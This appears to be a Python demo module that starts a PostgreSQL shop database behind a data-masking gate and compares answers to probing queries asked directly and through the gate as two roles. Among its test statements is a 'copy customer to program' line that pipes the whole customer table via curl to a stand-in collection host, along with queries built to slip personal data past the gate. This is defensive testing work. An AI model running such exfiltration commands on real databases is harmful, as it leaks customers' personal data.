"""What has happened when the scenes about the database begin: a shop's PostgreSQL, the gate in front of it, and what three asked.

The rule: the same statements are asked straight and through the gate, by the same program, and what came back is kept as it came.
Server, gate and their files are gone when this is done, whatever happens; nothing of them is needed to look at what they said.
"""

import secrets
import subprocess
from collections.abc import Iterator, Mapping, Sequence
from contextlib import contextmanager
from dataclasses import dataclass, field, replace
from importlib.resources import files
from os import environ
from pathlib import Path

from ringfence.demo.place import PATIENCE, DemoProblem, Place
from ringfence.demo.planting import Kind, Planted
from ringfence.demo.postgres_gate import OpenGate, User, gate_up, write_users
from ringfence.demo.postgres_server import Running, Server, ServerMissing, find_installation
from ringfence.demo.postgres_shop import LOGINS, PEOPLE, Customer, customers, shop
from ringfence.demo.running import stop_writer

DATABASE = "shop"
SHOWN = 35  # the customer who is asked about: with a ticket, orders and notes
POLICY = "shop.yaml"
USERS_FILES = {"support": "staff.scram", "analyst": "analysts.scram"}
SEPARATOR = " | "


@dataclass(frozen=True, slots=True)
class Question:
    """A statement, what it is about, and whether the gate is expected to answer each of the two who ask."""

    title: str
    statement: str
    support: bool = True
    analyst: bool = True


@dataclass(frozen=True, slots=True)
class Answer:
    """What psql said: rows, and errors."""

    out: str = field(repr=False)
    err: str = field(repr=False)

    @property
    def shown(self) -> str:
        """Both, as on a terminal."""
        return "\n".join(part.rstrip() for part in (self.out, self.err) if part.strip()).replace("\t", SEPARATOR)

    @property
    def is_refused(self) -> bool:
        """Whether it ended with an error."""
        return "ERROR:" in self.err


@dataclass(frozen=True, slots=True)
class Exchange:
    """A question with three answers: straight, and through the gate as two roles."""

    question: Question
    straight: Answer
    support: Answer
    analyst: Answer


@dataclass(frozen=True)
class ShopStage:
    """What the scenes look at."""

    place: Place
    customers: Sequence[Customer]
    exchanges: Sequence[Exchange]
    transfers: Sequence[tuple[Question, Answer]]  # as support

    def planted(self, role: str) -> list[Planted]:
        """Give the values of the people asked about that a role must not see."""
        kinds = {
            Kind.EMAIL: "email",
            Kind.CARD: "card",
            Kind.IBAN: "iban",
            Kind.SSN: "ssn",
            Kind.PHONE: "phone",
            Kind.BIRTH_DATE: "birth_date",
        }
        if role == "analyst":
            kinds[Kind.NAME] = "name"
        asked = self.customers[SHOWN - 1 : SHOWN + 1]
        values = ((kind, getattr(one, name)) for one in asked for kind, name in kinds.items())
        return [Planted(kind, str(value)) for kind, value in values if value is not None]


@dataclass(frozen=True, slots=True)
class OpenShop:
    """The shop while it is open."""

    place: Place
    server: Server
    gate: OpenGate
    customers: Sequence[Customer]
    users: Mapping[str, User]
    password: str = field(repr=False)  # of the logins upstream

    def straight(self, statement: str) -> Answer:
        """Ask without a gate, as the support's login."""
        return self._ask(self.server.port, User(LOGINS["support"], self.password, "support"), statement)

    def through(self, role: str, statement: str) -> Answer:
        """Ask through the gate."""
        return self._ask(self.gate.port, self.users[role], statement)

    def psql(self, role: str) -> str:
        """Give the line that connects."""
        return f'psql "{self.gate.dsn(self.users[role], DATABASE)}"'

    def _ask(self, port: int, user: User, statement: str) -> Answer:
        where = {
            "PGHOST": self.gate.host,
            "PGPORT": str(port),
            "PGUSER": user.name,
            "PGPASSWORD": user.password,
            "PGOPTIONS": user.options,
            "PGDATABASE": DATABASE,
        }
        kept = {name: value for name, value in environ.items() if not name.startswith("PG")}
        command = [str(self.server.bin / "psql"), "-X", "-q", "-A", "-t", "-F", SEPARATOR, "-c", statement]
        try:
            done = subprocess.run(
                command,
                stdin=subprocess.DEVNULL,
                capture_output=True,
                env={**kept, **where, "PGCLIENTENCODING": "UTF8", "PGCONNECT_TIMEOUT": "10"},
                timeout=PATIENCE,
                check=False,
            )
        except subprocess.TimeoutExpired:
            raise DemoProblem("psql had no answer", "run the demo again on a machine that is less busy") from None
        return Answer(done.stdout.decode(errors="replace"), done.stderr.decode(errors="replace"))


@contextmanager
def open_shop(folder: Path) -> Iterator[OpenShop]:
    """Start PostgreSQL with the shop in it, and the gate in front; end both. Raises `ServerMissing`."""
    installation = find_installation()
    place = Place(folder)
    place.prepare(files("ringfence.demo").joinpath(POLICY).read_text(encoding="utf-8"))
    people = customers(PEOPLE)
    password = secrets.token_urlsafe(12)
    with Running(installation, folder / ".server") as server:
        server.psql("postgres", f"create database {DATABASE}")
        server.psql(DATABASE, shop(people, passwords=dict.fromkeys(LOGINS.values(), password)))
        users = {
            "support": User("sam", secrets.token_urlsafe(12), "support"),
            "analyst": User("ann", secrets.token_urlsafe(12), "analyst", "analysts"),
        }
        for role, user in users.items():
            write_users(place.folder / USERS_FILES[role], [user])
        environment = {
            "SHOP_DSN": f"postgresql://127.0.0.1:{server.port}/{DATABASE}",
            "SHOP_PASSWORD": password,
            "SHOP_LISTEN": "127.0.0.1:0",
        }
        try:
            with gate_up(place.policy, environment) as gate:
                yield OpenShop(place, server, gate, people, users, password)
        finally:
            stop_writer(place)


def perform_shop(folder: Path) -> ShopStage | ServerMissing:
    """Ask every question in every way; where no PostgreSQL is there, give the words that say so."""
    try:
        with open_shop(folder) as opened:
            exchanges = [
                Exchange(
                    one,
                    opened.straight(one.statement),
                    opened.through("support", one.statement),
                    opened.through("analyst", one.statement),
                )
                for one in questions(opened.customers[SHOWN - 1])
            ]
            transfers = [(one, opened.through("support", one.statement)) for one in TRANSFERS]
            return ShopStage(opened.place, opened.customers, exchanges, transfers)
    except ServerMissing as missing:
        return missing


def questions(one: Customer) -> Sequence[Question]:
    """Give the ten questions. One holds the address of somebody who is on the telephone."""
    mail = one.email.replace("'", "''")
    return [replace(question, statement=question.statement.replace("MAIL", mail)) for question in _QUESTIONS]


_QUESTIONS = (
    Question("As support would write it", "select id, name, email, phone, card from customer where id in (35, 36)"),
    Question(
        "An alias, capitals, backwards", "select upper(email) as note, reverse(card) as n from customer where id = 35"
    ),
    Question("Out of a view of a view", "select from_address, beginning from support_inbox where id = 35"),
    Question("Out of functions", "select email_of(35) as e, initials('Ada Lovelace'), order_total(140)"),
    Question("Free text", "select body from support_ticket where id = 35"),
    Question("JSON, by its paths", "select preferences from customer where id = 35"),
    Question("Nothing personal: the same bytes", "select segment, customers from segment_size order by segment"),
    Question(
        "A customer on the telephone: equality, within a budget",
        "select id, segment from customer where email = 'MAIL'",
        analyst=False,
    ),
    Question("COPY", "copy (select id, email, birth_date from customer where id = 35) to stdout"),
    Question(
        "An error that quotes the value",
        "select email::int from customer where id = 35",
        support=False,
        analyst=False,
    ),
)

TRANSFERS = (
    Question("Straight into a program", "copy customer to program 'curl --data-binary @- https://collect.example.com'"),
    Question(
        "A search by what may not be seen",
        "select id from customer where birth_date > '1990-01-01' order by birth_date",
    ),
    Question("A column that nobody has judged", "select attachment from support_ticket where id = 25"),
    Question(
        "A card number into a ticket",
        "insert into support_ticket (customer_id, subject, body) values (35, 'refund', 'to card 4539 7712 3456 7897')",
    ),
)
